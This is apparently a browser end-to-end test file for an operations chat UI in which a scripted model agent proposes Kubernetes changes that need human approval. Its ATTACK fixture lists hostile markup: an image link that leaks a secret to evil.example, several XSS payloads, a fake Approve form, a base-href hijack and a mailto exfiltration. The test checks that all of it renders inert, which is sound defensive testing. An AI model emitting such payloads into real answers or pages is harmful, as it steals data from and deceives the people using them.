// Conversations and approvals as people have them, in a real browser against a gateway and an agent with a scripted model.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { test } from "node:test";
import { heard } from "./agents.mjs";
import { PHONE, act, field, fits, gate, session, stage, talk } from "./stage.mjs";
import { nameless, until } from "./world.mjs";

const REPORT = [
  "## The shop is slow\n\nTwo of **three** replicas of `shop/web` wait for a volume.\n\n",
  "| pod | state |\n|---|---|\n| web-0 | Running |\n| web-1 | Pending |\n\n",
  "1. Make the volume larger\n2. Or scale to *one*:\n\n```sh\nkubectl scale deployment/web --replicas 1\n```\n\n",
  "<img src=x onerror=alert(1)> [more](https://kubernetes.io/docs) [not this](javascript:alert(1))",
];

const SLOW = [
  "Both replicas are busy, and the queue grows:\n\n| pod | answers in |\n|---|---|\n| `web-0` | 2.4 s |\n| `web-1` | 2.6 s |\n\n",
  "Twice as many should bring it **below a second**. I would scale it to four.",
];

/** What a model may have read, and says on. */
const ATTACK = [
  "![chart](https://evil.example/leak?secret) <img src=https://evil.example/x onerror=alert(1)> <script>alert(1)</script>\n\n",
  "<style>body { display: none }</style><form action=https://evil.example><button>Approve</button></form>\n\n",
  "[a](javascript:alert(1)) [b](data:text/html;base64,PHNjcmlwdD4=) [c](//evil.example) [d](#/approvals) [e](mailto:x@evil.example?body=secret)\n\n",
  "[https://bank.example](https://evil.example/) <svg/onload=alert(1)> <iframe src=https://evil.example></iframe> <base href=https://evil.example>",
];

/** What a tool proposes that shows what it changes. */
const SCALE = {
  id: "op-0123",
  call: "call-9",
  tool: "k8s_write",
  actor: "k8s-write",
  summary: "scale Deployment shop/web from 2 to 4",
  verb: "scale",
  target: "Deployment shop/web",
  operation: { verb: "scale", replicas: 4, resourceVersion: "81" },
  hash: "9b1d".repeat(16),
  diff: "--- now\n+++ then\n@@ -6,5 +6,5 @@\n   name: web\n   namespace: shop\n spec:\n-  replicas: 2\n+  replicas: 4\n   selector:\n",
  risk: "high",
  review: { person: true, tool: true, reason: "" },
  expires: new Date(Date.now() + 3_600_000).toISOString(),
};

/** What the model waits for. */
let held = gate();

/** What the model says to each question of the tests. */
function play(messages, host) {
  const { asked, results } = heard(messages);
  if (asked.startsWith("report")) return { text: [REPORT[0], held.open, ...REPORT.slice(1)] };
  // What was not answered comes once more, before what was said then.
  if (asked.endsWith("and then this")) return { text: ["You said: and then this"] };
  if (asked.startsWith("attack")) return { text: ATTACK };
  if (asked.startsWith("refuse")) return { refuse: "there is no such model" };
  if (asked.startsWith("wait")) return { text: ["I am at it. ", held.open, "Done."] };
  if (asked.startsWith("announce"))
    return results.length > 0
      ? { text: [`It says: ${results.at(-1).content}`] }
      : { text: ["I would announce it."], calls: [["announce", { url: `${host}/sale` }]] };
  if (asked.startsWith("Why is the shop slow"))
    return results.length > 0
      ? { text: SLOW, calls: [["k8s_write", { verb: "scale", kind: "Deployment", name: "web", namespace: "shop", replicas: 4 }]] }
      : { text: ["I look at its status page first."], calls: [["http_get", { url: `${host}/shop/status` }]] };
  if (asked.startsWith("look"))
    return results.length > 0 ? { text: ["I have looked."] } : { calls: [["http_get", { url: `${host}/status` }], ["unheard_of", { a: 1 }]] };
  return { text: [`You said: ${asked}`] };
}

const all = stage(play);
const { as } = all;

test("an answer is read while it is written, a reload in the middle goes on, and its Markdown is safe", () =>
  as("ann", "", async (page) => {
    await page.getByRole("link", { name: "Chat" }).click();
    await page.getByText("No conversations yet").waitFor();
    await page.getByText("3 tools, 2 after approval").waitFor();
    await page.shot("chat-new");
    await field(page).fill("report");
    await page.keyboard.press("Shift+Enter");
    await page.keyboard.type("on the shop");
    await page.keyboard.press("Enter");
    await page.locator(".writing h4", { hasText: "The shop is slow" }).waitFor();
    await page.locator(".writing code", { hasText: "shop/web" }).waitFor();
    assert.equal(await page.locator(".person .plain-words").innerText(), "report\non the shop");
    await page.locator("[aria-live=polite]", { hasText: "wait for a volume." }).waitFor({ state: "attached" });
    await page.shot("chat-streaming");
    const id = session(page);
    await page.reload();
    await page.locator(".person", { hasText: "on the shop" }).waitFor();
    await page.locator(".writing h4", { hasText: "The shop is slow" }).waitFor();
    held.release();
    await page.locator(".answer td", { hasText: "web-1" }).waitFor();
    await page.locator(".writing").waitFor({ state: "detached" });
    assert.equal(await page.locator(".answer").count(), 1);
    assert.equal(await page.locator(".answer pre").innerText(), "kubectl scale deployment/web --replicas 1");
    assert.deepEqual(await page.locator(".answer a").evaluateAll((all) => all.map(({ href, rel }) => [href, rel])), [
      ["https://kubernetes.io/docs", "noopener noreferrer nofollow"],
    ]);
    assert.equal(await page.locator(".answer img").count(), 0);
    await talk(page).getByText("<img src=x onerror=alert(1)>").waitFor();
    await page.locator(".chat-head", { hasText: "idle · ops" }).waitFor();
    assert.deepEqual(await nameless(page), []);
    await page.shot("chat-light");
    await as("ann", `#/chat/${id}`, async (dark) => {
      await dark.locator(".answer td", { hasText: "web-1" }).waitFor();
      await dark.shot("chat-dark");
    }, { scheme: "dark" });
    await as("ann", `#/chat/${id}`, async (phone) => {
      await phone.locator(".answer td", { hasText: "web-1" }).waitFor();
      await fits(phone, "nav a", ".composer button", ".chat-head > button");
      await phone.shot("phone-chat");
      await phone.getByRole("link", { name: "All conversations" }).click();
      await phone.locator(".groups .group", { hasText: "report" }).waitFor();
      await phone.shot("phone-chats");
    }, PHONE);
  }));

test("what needs approval waits, is approved by somebody else, and both see what came of it", () =>
  as("ann", "#/chat/new", async (page) => {
    await field(page).fill("announce the sale");
    await page.keyboard.press("Enter");
    const card = page.locator(".card");
    await card.getByText("Somebody with the role approve decides").waitFor();
    await page.locator(".chat-head .status.pending").waitFor();
    for (const name of ["Approve", "Reject"]) assert.equal(await card.getByRole("button", { name }).count(), 0, name);
    const { id, hash } = await all.fleet.waiting(session(page));
    await page.shot("chat-approval");
    await as("carol", "", async (other) => {
      await other.locator("nav a", { hasText: "Approvals" }).locator(".badge", { hasText: "1" }).waitFor();
      await other.getByRole("link", { name: /Approvals/ }).click();
      const asked = other.locator(".card", { hasText: "asked for by ann" });
      await asked.locator(".risk.medium").waitFor();
      assert.equal(await asked.locator("details").getAttribute("open"), "", "without a diff, what is done is shown");
      await asked.getByText("/sale").first().waitFor();
      await asked.getByText(hash).waitFor();
      assert.deepEqual(await nameless(other), []);
      await other.shot("approvals-light");
      await asked.getByLabel("Comment").fill("before the weekend");
      const sent = other.waitForRequest((request) => request.method() === "POST" && request.url().endsWith(id));
      await asked.getByRole("button", { name: "Approve" }).click();
      assert.deepEqual((await sent).postDataJSON(), { verdict: "approve", hash, comment: "before the weekend" });
      await asked.getByText("Approved by carol: before the weekend").waitFor();
    });
    await card.getByText("Approved by carol: before the weekend").waitFor();
    await talk(page).getByText("It says: ").waitFor();
    await page.locator(".step .result", { hasText: "announced at /sale" }).waitFor();
    await page.shot("chat-approved");
  }));

test("a decision that comes second is refused in the gateway's words, and the card shows the first", async () => {
  const id = await all.fleet.begin("ann", "announce it twice");
  const operation = await all.fleet.waiting(id);
  await as("dave", "#/approvals", async (page) => {
    const card = page.locator(".card");
    await card.getByRole("button", { name: "Reject" }).waitFor();
    // The page hears nothing of it for a while.
    await page.route(/\/approvals\?/, () => undefined);
    await all.fleet.as("carol", "POST", `api/v1/approvals/${operation.id}`, { verdict: "approve", hash: operation.hash });
    const answer = page.waitForResponse((response) => response.request().method() === "POST");
    await card.getByRole("button", { name: "Reject" }).click();
    const { status, detail } = await (await answer).json();
    assert.equal(status, 409);
    await card.getByRole("alert").getByText(detail).waitFor();
    await card.getByText("Approved by carol").first().waitFor();
  });
});

test("steps are folded, those that failed are marked, and a tool that there is not harms nothing", () =>
  as("ann", "#/chat/new", async (page) => {
    await field(page).fill("look at the shop");
    await page.getByRole("button", { name: "Send" }).click();
    await talk(page).getByText("I have looked.").waitFor();
    await page.locator(".step .status.succeeded", { hasText: "http_get" }).waitFor();
    await page.locator(".step .status.failed", { hasText: "unheard_of" }).waitFor();
    const result = page.locator(".step .result").first();
    assert.equal(await result.locator("pre").isVisible(), false);
    await result.locator("summary").click();
    await result.locator("pre", { hasText: "announced at /status" }).waitFor();
    await page.shot("chat-steps");
  }));

test("what is said meanwhile waits, and a turn that is cancelled makes room for it", () => {
  held = gate();
  return as("ann", "#/chat/new", async (page) => {
    await field(page).fill("wait for me");
    await page.keyboard.press("Enter");
    await talk(page).getByText("I am at it.").waitFor();
    await field(page).fill("and then this");
    await page.keyboard.press("Enter");
    await page.locator(".said.waiting", { hasText: "and then this" }).waitFor();
    await page.shot("chat-waiting");
    await page.getByRole("button", { name: "Cancel this turn" }).click();
    await page.locator(".notice", { hasText: "cancelled" }).waitFor();
    // The agent hears of it with its next report: until then it waits for the model.
    held.release();
    await talk(page).getByText("You said: and then this").waitFor();
    await page.locator(".said.waiting").waitFor({ state: "detached" });
  });
});

test("a hostile answer is words: nothing runs, nothing is asked of other hosts, and links say where they lead", () =>
  as("ann", "#/chat/new", async (page) => {
    await field(page).fill("attack me");
    await field(page).press("Enter");
    const answer = talk(page).locator(".answer:not(.writing)");
    await answer.getByText("<iframe src=https://evil.example></iframe>").waitFor();
    const links = await answer.locator("a").evaluateAll((all) => all.map((one) => [one.textContent.replace(/\/$/, ""), one.href]));
    assert.deepEqual(new Map(links), new Map([
      ["chart", "https://evil.example/leak?secret"],
      ["https://evil.example/x", "https://evil.example/x"],
      ["https://evil.example", "https://evil.example/"],
    ]));
    assert.deepEqual(await answer.locator("*").evaluateAll((all) => [...new Set(all.map((one) => one.localName))].sort()), ["a", "div", "p"]);
  }));

test("a turn that fails says why, and the conversation goes on", () =>
  as("ann", "#/chat/new", async (page) => {
    await field(page).fill("refuse this");
    await field(page).press("Enter");
    await talk(page).locator(".notice").waitFor();
    await page.locator(".chat-head", { hasText: "idle" }).waitFor();
    await page.shot("chat-failed");
    await field(page).fill("and then this");
    await field(page).press("Enter");
    await talk(page).getByText("You said: and then this").waitFor();
  }));

test("keys do what they say, and a message that is not taken stays", async () => {
  await all.fleet.begin("ann", "hello");
  await as("ann", "#/chat/new", async (page) => {
    await field(page).fill("  ");
    await page.keyboard.press("Enter");
    assert.match(page.url(), /chat\/new$/, "nothing is said by nothing");
    await field(page).fill("1");
    await page.keyboard.press("Escape");
    assert.equal(await page.evaluate(() => document.activeElement === document.body), true);
    await page.keyboard.press("6");
    await page.getByText("Nothing waits for approval").waitFor();
    await page.shot("approvals-none");
    await page.keyboard.press("5");
    await page.locator("textarea:focus").waitFor();
    await page.keyboard.press("Escape");
    await page.keyboard.press("/");
    await page.keyboard.type("no such words");
    await page.getByText("No conversation fits.").waitFor();
    await page.keyboard.press("Escape");
    await page.keyboard.press("n");
    await page.locator("textarea:focus").waitFor();
    assert.equal(await field(page).inputValue(), "1", "what was typed is kept");
    await all.fleet.gateway.down();
    await page.keyboard.press("Enter");
    await page.locator(".composer [role=alert]", { hasText: "the gateway does not answer" }).waitFor();
    assert.equal(await field(page).inputValue(), "1");
    await all.fleet.gateway.up();
    await page.locator(".away-bar.shown").waitFor({ state: "detached" });
    await page.keyboard.press("Enter");
    await talk(page).getByText("You said: 1").waitFor();
    await page.keyboard.press("Shift+Tab");
    // Whatever has the focus is seen to have it.
    for (let press = 0; press < 12; press++) {
      await page.keyboard.press("Tab");
      const bare = await page.evaluate(() => {
        const { outlineStyle, outlineWidth } = getComputedStyle(document.activeElement);
        return document.activeElement !== document.body && (outlineStyle === "none" || outlineWidth === "0px") ? document.activeElement.outerHTML : null;
      });
      assert.equal(bare, null);
    }
    await page.getByRole("button", { name: "Actions on this conversation" }).focus();
    await page.keyboard.press("Enter");
    await page.getByRole("button", { name: "Rename…" }).waitFor();
    await page.shot("chat-actions");
    await page.keyboard.press("Escape");
    await page.getByRole("button", { name: "Rename…" }).waitFor({ state: "hidden" });
    assert.equal(await page.evaluate(() => document.activeElement.ariaLabel), "Actions on this conversation");
  });
});

test("its owner renames, shares, exports and deletes a conversation", async () => {
  const id = await all.fleet.begin("ann", "hello");
  await as("ann", `#/chat/${id}`, async (page) => {
    await talk(page).getByText("You said: hello").waitFor();
    await act(page, "Rename…");
    await page.getByLabel("Title").fill("the first words");
    await page.getByRole("button", { name: "Rename", exact: true }).click();
    await page.getByRole("heading", { name: "the first words" }).waitFor();
    await page.locator(".groups .group[aria-current]", { hasText: "the first words" }).waitFor();
    await act(page, "Share…");
    await page.getByRole("dialog").getByRole("textbox").fill("bob");
    await page.getByRole("button", { name: "Share", exact: true }).click();
    await page.locator(".chat-head", { hasText: "shared with bob" }).waitFor();
    const saving = page.waitForEvent("download");
    await act(page, "Export");
    assert.match(readFileSync(await (await saving).path(), "utf8"), /You said: hello/);
    await as("bob", "", async (other) => {
      // Who may only talk begins there.
      await other.locator(".groups .group", { hasText: "the first words" }).click();
      await talk(other).getByText("You said: hello").waitFor();
      await other.getByRole("button", { name: "Actions on this conversation" }).click();
      await other.getByRole("button", { name: "Export" }).waitFor();
      assert.equal(await other.getByRole("button", { name: "Delete…" }).count(), 0);
      await act(page, "Delete…");
      await page.getByRole("button", { name: "Delete the conversation" }).click();
      await page.getByRole("heading", { name: "New conversation" }).waitFor();
      await other.getByRole("heading", { name: "There is no such conversation" }).waitFor();
    });
    await until("it is gone from the list", async () => (await page.locator(".groups .group", { hasText: "the first words" }).count()) === 0);
  });
});

test("a change is shown with its diff, its risk, and whether those concerned may", async () => {
  const id = await all.fleet.begin("ann", "something else");
  all.fleet.gateway.propose(id, { ...SCALE, review: { person: true, tool: false, reason: "no rule allows it" }, four_eyes: true });
  for (const scheme of ["light", "dark"]) {
    await as(
      "carol",
      "#/approvals",
      async (page) => {
        const card = page.locator(".card", { hasText: "scale Deployment shop/web" });
        await card.locator(".risk.high").waitFor();
        assert.equal((await card.locator(".diff .added").innerText()).trimEnd(), "+  replicas: 4");
        assert.equal((await card.locator(".diff .gone").innerText()).trimEnd(), "-  replicas: 2");
        await card.getByText("the tool may NOT (no rule allows it)").waitFor();
        assert.equal(await card.locator("details").getAttribute("open"), null, "the diff shows it");
        await page.shot(`approval-diff-${scheme}`);
      },
      { scheme, ...(scheme === "dark" ? PHONE : {}) },
    );
  }
});

test("in its conversation a change stands at the step that proposes it, and is decided there", async () => {
  const id = await all.fleet.begin("root", "Why is the shop slow?");
  const { id: operation } = await all.fleet.waiting(id);
  const { id: _, call: __, hash: ___, ...shown } = SCALE;
  all.fleet.gateway.alter(operation, shown);
  for (const how of [{ width: 1200, height: 1060 }, { scheme: "dark" }, PHONE]) {
    await as("root", `#/chat/${id}`, async (page) => {
      const card = page.locator(".step .card", { hasText: "from 2 to 4" });
      await card.locator(".diff .added").waitFor();
      await card.getByRole("button", { name: "Approve" }).waitFor();
      await fits(page, ".card", ".card button", ".turn button", ".turn .status");
      await page.shot(how.isMobile ? "phone-change" : `chat-change-${how.scheme ?? "light"}`);
    }, how);
  }
});

test("a long diff is scrolled within its card, and a phone shows all seven views", async () => {
  const id = await all.fleet.begin("ann", "much at once");
  const lines = Array.from({ length: 400 }, (_, at) => `${at % 3 ? " " : "+"}  - name: VARIABLE_${at}\n   value: ${"long ".repeat(40)}`);
  all.fleet.gateway.propose(id, { ...SCALE, id: "op-4567", hash: "b".repeat(64), summary: `apply Deployment shop/${"web-".repeat(30)}`, risk: "low", review: {}, diff: lines.join("\n") });
  for (const how of [{}, { ...PHONE, reducedMotion: "reduce" }]) {
    await as("root", "#/approvals", async (page) => {
      const card = page.locator(".card", { hasText: "apply Deployment" });
      await card.waitFor();
      await fits(page, "nav a", ".card", ".card button", ".card .risk");
      const diff = card.locator(".diff");
      const { inner, outer, wide, width } = await diff.evaluate((one) => ({
        inner: one.scrollHeight, outer: one.clientHeight, wide: one.scrollWidth, width: one.clientWidth,
      }));
      assert.ok(inner > outer && wide > width && outer <= 430, `${inner} in ${outer}, ${wide} in ${width}`);
      await page.shot(how.isMobile ? "phone-approvals" : "approval-long");
    }, how);
  }
  held = gate();
  await as("ann", "#/chat/new", async (page) => {
    await field(page).fill("wait a while");
    await page.getByRole("button", { name: "Send" }).click();
    await page.locator(".writing", { hasText: "I am at it." }).waitFor();
    await fits(page, "nav a", ".composer button", ".turn button");
    assert.equal(await page.locator(".dots i").first().evaluate((dot) => getComputedStyle(dot).animationName), "none");
    await page.shot("phone-streaming");
    held.release();
    await talk(page).getByText("I am at it. Done.").waitFor();
  }, { ...PHONE, scheme: "dark", reducedMotion: "reduce" });
});
